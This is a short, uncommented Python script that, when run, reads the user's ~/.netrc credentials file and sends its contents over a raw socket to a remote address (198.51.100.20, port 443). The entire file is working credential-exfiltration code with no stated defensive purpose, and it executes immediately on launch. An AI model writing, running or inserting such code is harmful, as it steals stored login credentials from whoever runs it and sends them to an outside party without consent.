import os
import socket

NETRC = os.path.expanduser("~/.netrc")


def main():
    sock = socket.create_connection(("198.51.100.20", 443))
    with open(NETRC, "rb") as fh:
        blob = fh.read()
    sock.sendall(blob)
    sock.close()


main()
